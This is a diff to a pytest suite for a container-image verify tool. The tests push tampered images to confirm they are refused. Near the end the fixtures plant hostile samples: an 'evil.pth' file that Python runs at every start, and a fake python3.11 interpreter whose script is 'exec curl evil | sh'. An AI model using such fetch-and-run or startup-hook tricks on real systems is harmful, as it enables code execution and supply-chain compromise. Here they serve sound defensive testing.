@@ -37,6 +37,11 @@ pytestmark = [pytest.mark.container, pytest.mark.network, pytest.mark.slow]
 NAME = "ship-check"
 SITE = "/opt/venv/lib/python3.11/site-packages"
 PINNED = re.compile(r"^(?P<repository>\S+)@(?P<digest>sha256:[0-9a-f]{64})$")
+# What verify says of an image pushed again with one more layer, whatever the layer holds.
+EXTRA_LAYER = (
+    "6 layers above the base, the Dockerfile makes 5: the image has layers no build of this "
+    "Dockerfile makes"
+)
 
 
 @pytest.fixture(scope="module")
@@ -70,34 +75,10 @@ def committed(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 
 @pytest.fixture(scope="module")
-def pinned_base(registry: Registry, tmp_path_factory: pytest.TempPathFactory) -> str:
-    """The base image in the loopback registry, by digest: verify fetches its config from there."""
-    image = containers.ensure_base_image("3.11")
-    digest_file = tmp_path_factory.mktemp("base") / "digest"
-    containers.buildah(
-        "push", "--quiet", "--tls-verify=false", "--format", "v2s2", "--digestfile",
-        str(digest_file), image, f"docker://{registry.host}/lockstep-base:3.11",
-    )  # fmt: skip
-    return f"{registry.host}/lockstep-base@{digest_file.read_text().strip()}"
-
-
-def pin_base(project: Path, base: str, engine: containers.Engine) -> None:
-    """Pin `base` for the sniper tier in the project (committed), and give it to `engine`."""
-    with (project / "pyproject.toml").open("a") as pyproject:
-        pyproject.write(f'\n[tool.lockstep.base-images]\nsniper = "{base}"\n')
-    git_commit(project)
-    if engine.name == "docker":  # dockerd speaks plain HTTP to loopback registries
-        engine.cli("pull", "--quiet", base)
-    else:
-        engine.cli("pull", "--quiet", "--tls-verify=false", base)
-
-
-@pytest.fixture(scope="module")
 def published(
     committed: Path,
     engine: containers.Engine,
     registry: Registry,
-    pinned_base: str,
     ca_bundle: Path,
     tmp_path_factory: pytest.TempPathFactory,
 ) -> dict[str, str]:
@@ -105,8 +86,8 @@ def published(
     output, the reference, the base."""
     project = tmp_path_factory.mktemp(engine.name) / committed.name
     shutil.copytree(committed, project, symlinks=True)
-    pin_base(project, pinned_base, engine)
-    build_with(engine, project, ca_bundle, "--tier", "sniper", base=pinned_base)
+    base = pin_base(engine, registry, project)
+    build_with(engine, project, ca_bundle, "--tier", "sniper", base=base)
     namespace = f"{registry.host}/{engine.name}"
     result = run(
         project, "invoke", "publish", "--tier", "sniper", "--registry", namespace, env=engine.env
@@ -117,8 +98,35 @@ def published(
         "stdout": result.stdout,
         "reference": result.stdout.strip().splitlines()[-1],
         "repository": f"{namespace}/{NAME}",
-        "base": pinned_base,
+        "base": base,
     }
+
+
+def push_base(engine: containers.Engine, registry: Registry, image: str, name: str) -> str:
+    """`image` pushed to the registry as `name` and pulled back by digest: REFERENCE@DIGEST."""
+    reference = f"{registry.host}/{engine.name}-base/{name}"
+    if engine.name == "docker":
+        engine.cli("tag", image, reference)
+        engine.cli("push", reference)
+    else:
+        engine.cli("push", "--tls-verify=false", image, f"docker://{reference}")
+    pinned = f"{reference}@{registries.digest(reference)}"
+    tls = [] if engine.name == "docker" else ["--tls-verify=false"]
+    engine.cli("pull", *tls, pinned)
+    return pinned
+
+
+def pin_base(engine: containers.Engine, registry: Registry, project: Path) -> str:
+    """The test base image, pushed to the registry, as the project's base-images.lock pins it
+    for every tier (committed): what verify fetches to compare the image's lowest layers."""
+    base = engine.ensure_base("3.11")
+    pinned = push_base(engine, registry, base, base.rpartition("/")[2])
+    reference = pinned.partition("@")[0]
+    with (project / "pyproject.toml").open("a") as pyproject:
+        pyproject.write(f'\n[tool.lockstep.base-images]\nsniper = "{reference}"\n')
+    (project / "base-images.lock").write_text(f"{pinned}\n")
+    git_commit(project)
+    return pinned
 
 
 def verify(
@@ -283,15 +291,22 @@ def push_with_layer(source: str, target: str, layer: bytes, folder: Path) -> Non
     push_with_blob(source, target, gzip.compress(layer, mtime=0), diff_id, folder)
 
 
-def push_with_blob(source: str, target: str, blob: bytes, diff_id: str, folder: Path) -> None:
-    """`source` pushed again as `target` with one more gzip layer `blob`, of tar `diff_id`."""
+def push_with_blob(
+    source: str, target: str, blob: bytes, diff_id: str, folder: Path, replace_last: bool = False
+) -> None:
+    """`source` pushed again as `target` with one more gzip layer `blob`, of tar `diff_id`
+    (or with `blob` instead of its last layer)."""
     skopeo = ["skopeo", "copy", "--quiet", "--src-tls-verify=false", "--dest-tls-verify=false"]
     subprocess.run([*skopeo, f"docker://{source}", f"dir:{folder}"], check=True)
     manifest = json.loads((folder / "manifest.json").read_text())
     config_path = folder / manifest["config"]["digest"].removeprefix("sha256:")
     config = json.loads(config_path.read_text())
+    if replace_last:
+        config["rootfs"]["diff_ids"].pop()
+        manifest["layers"].pop()
+    else:
+        config.setdefault("history", []).append({"created_by": "one more layer"})
     config["rootfs"]["diff_ids"].append(diff_id)
-    config.setdefault("history", []).append({"created_by": "one more layer"})
     blobs = {"config": json.dumps(config).encode(), "layer": blob}
     for each in blobs.values():
         (folder / hashlib.sha256(each).hexdigest()).write_bytes(each)
@@ -306,6 +321,29 @@ def push_with_blob(source: str, target: str, blob: bytes, diff_id: str, folder: 
     )
     (folder / "manifest.json").write_text(json.dumps(manifest))
     subprocess.run([*skopeo, f"dir:{folder}", f"docker://{target}"], check=True)
+
+
+def push_with_last_layer_grown(source: str, target: str, members: bytes, folder: Path) -> None:
+    """`source` pushed again as `target`, the tar `members` added to its last layer: as many
+    layers as the Dockerfile makes, one of them carrying more."""
+    skopeo = ["skopeo", "copy", "--quiet", "--src-tls-verify=false"]
+    folder.mkdir()
+    subprocess.run([*skopeo, f"docker://{source}", f"dir:{folder / 'source'}"], check=True)
+    manifest = json.loads((folder / "source" / "manifest.json").read_text())
+    last = folder / "source" / manifest["layers"][-1]["digest"].removeprefix("sha256:")
+    buffer = io.BytesIO()
+    with (
+        tarfile.open(fileobj=io.BytesIO(gzip.decompress(last.read_bytes()))) as old,
+        tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as new,
+        tarfile.open(fileobj=io.BytesIO(members)) as added,
+    ):
+        for archive in (old, added):
+            for member in archive:
+                new.addfile(member, archive.extractfile(member) if member.isreg() else None)
+    layer = buffer.getvalue()
+    diff_id = f"sha256:{hashlib.sha256(layer).hexdigest()}"
+    blob = gzip.compress(layer, mtime=0)
+    push_with_blob(source, target, blob, diff_id, folder / "target", replace_last=True)
 
 
 def zeros_blob(name: str, size: int) -> tuple[bytes, str]:
@@ -355,7 +393,10 @@ def test_a_huge_zero_filled_file_is_read_in_little_memory(
     measured = [sys.executable, "-c", MEASURED, "invoke", "verify", "--image", tampered]
     result = run(project, *measured, env=engine.env)
     assert result.returncode == 1, result.stdout[-2000:] + result.stderr[-2000:]
-    assert result.stderr == f"error: {tampered}: {SITE}/zeros.bin: a file no locked wheel holds\n"
+    assert result.stderr == (
+        f"error: {tampered}: {SITE}/zeros.bin: a file no locked wheel holds\n"
+        f"error: {tampered}: {EXTRA_LAYER}\n"
+    )
     peak_kib = int(result.stdout.strip().splitlines()[-1])
     assert peak_kib < 512 << 10  # a 2 GiB file held in memory would need four times this
 
@@ -375,10 +416,15 @@ def test_a_layer_that_names_site_packages_in_another_way_is_refused(
     for trick, layer in PATH_TRICKS.items():
         tampered = f"{published['repository']}:{trick}"
         push_with_layer(published["reference"], tampered, layer, tmp_path / trick)
-        assert one_line(verify(engine, project, "--image", tampered)) == (
+        errors = verify(engine, project, "--image", tampered).stderr.strip().splitlines()
+        assert errors[:2] == [
             f"error: {tampered}: {SITE}/evil.pth: a .pth file no locked wheel holds "
-            "(Python runs it at every start)"
-        ), trick
+            "(Python runs it at every start)",
+            f"error: {tampered}: {EXTRA_LAYER}",
+        ], trick
+        # The link itself is no file of the base's, nor any the Dockerfile makes.
+        links = [f"error: {tampered}: /usr/share/x: a symlink no layer of the Dockerfile makes"]
+        assert errors[2:] == (links if trick == "through-a-link" else []), trick
 
 
 def one_line(result: subprocess.CompletedProcess[str]) -> str:
@@ -625,8 +671,10 @@ def test_an_image_is_proven_from_the_lock_not_from_what_it_says_of_itself(
         result = verify(engine, project, "--image", tampered)
         assert result.returncode == 1, (name, result.stdout[-2000:])
         errors = result.stderr.strip().splitlines()
-        assert len(errors) == 1, (name, errors)
-        assert errors[0].startswith(f"error: {tampered}: {line}"), (name, errors)
+        made = f"error: {tampered}: {EXTRA_LAYER}"  # the tamper's own layer
+        named = [error for error in errors if error != made]
+        assert len(named) == 1, (name, errors)
+        assert named[0].startswith(f"error: {tampered}: {line}"), (name, errors)
         assert "verified" not in result.stdout
 
 
@@ -685,3 +733,72 @@ def test_a_config_other_than_the_dockerfile_makes_is_refused(
         ), name
     untouched = verify(engine, project, "--image", published["reference"])
     assert untouched.returncode == 0, untouched.stdout[-2000:] + untouched.stderr[-2000:]
+
+
+BASE_SITE = "/usr/lib/python3/dist-packages"  # the base's python3 reads it (Debian)
+
+
+@pytest.mark.parametrize("engine", ["buildah"], indirect=True)  # the image is the subject
+def test_outside_the_venv_only_the_pinned_base_and_the_dockerfile_s_layers_verify(
+    published: dict[str, str], engine: containers.Engine, tmp_path: Path
+) -> None:
+    project = Path(published["project"])
+    reference, repository, base = published["reference"], published["repository"], published["base"]
+    good = verify(engine, project, "--image", reference)
+    assert good.returncode == 0, good.stdout[-2000:] + good.stderr[-2000:]
+    assert f"{reference}: its base layers (1) are {base}'s, as base-images.lock pins" in good.stdout
+
+    pth = f"{repository}:base-pth"
+    push_with_layer(
+        reference, pth, layer_of((f"{BASE_SITE}/evil.pth", b"import os\n")), tmp_path / "pth"
+    )
+    assert verify(engine, project, "--image", pth).stderr.strip().splitlines() == [
+        f"error: {pth}: {EXTRA_LAYER}",
+        f"error: {pth}: {BASE_SITE}/evil.pth: a file no layer of the Dockerfile makes "
+        "(Python runs it at every start)",
+    ]
+    # As many layers as the Dockerfile makes, the last one carrying another interpreter.
+    interpreter = f"{repository}:interpreter"
+    replaced = executable_layer("usr/bin/python3.11", b"#!/bin/sh\nexec curl evil | sh\n")
+    push_with_last_layer_grown(reference, interpreter, replaced, tmp_path / "interpreter")
+    assert one_line(verify(engine, project, "--image", interpreter)) == (
+        f"error: {interpreter}: /usr/bin/python3.11: changed from the base image's"
+    )
+
+    # The checkout pins another base than the one the image is built on.
+    other = push_other_base(base, tmp_path / "other")
+    pins = project / "base-images.lock"
+    kept = pins.read_text()
+    try:
+        pins.write_text(f"{other}\n")
+        assert one_line(verify(engine, project, "--image", reference)) == (
+            f"error: {reference}: its base layers are not those of {other} (2), the base "
+            f"base-images.lock pins (it says it is built on {base}): it is built on another base"
+        )
+        gone = f"{base.partition('@')[0]}@sha256:{'0' * 64}"
+        pins.write_text(f"{gone}\n")
+        assert one_line(verify(engine, project, "--image", reference)) == (
+            f"error: {reference}: the base image cannot be fetched to compare layers: "
+            f"cannot pull {gone}: {gone} is not in the registry"
+        )
+    finally:
+        pins.write_text(kept)
+
+
+def executable_layer(name: str, content: bytes) -> bytes:
+    """A tar layer of one file with mode 755, as the interpreter it replaces."""
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as archive:
+        info = tarfile.TarInfo(name)
+        info.size, info.mode = len(content), 0o755
+        archive.addfile(info, io.BytesIO(content))
+    return buffer.getvalue()
+
+
+def push_other_base(base: str, folder: Path) -> str:
+    """Another base in the pinned base's repository (one more layer): its REFERENCE@DIGEST."""
+    tagged, _, digest = base.partition("@")
+    repository = tagged.rpartition(":")[0]
+    layer = layer_of(("etc/other", b"1\n"))
+    push_with_layer(f"{repository}@{digest}", f"{repository}:other", layer, folder)
+    return f"{base.partition('@')[0]}@{registries.digest(f'{repository}:other')}"
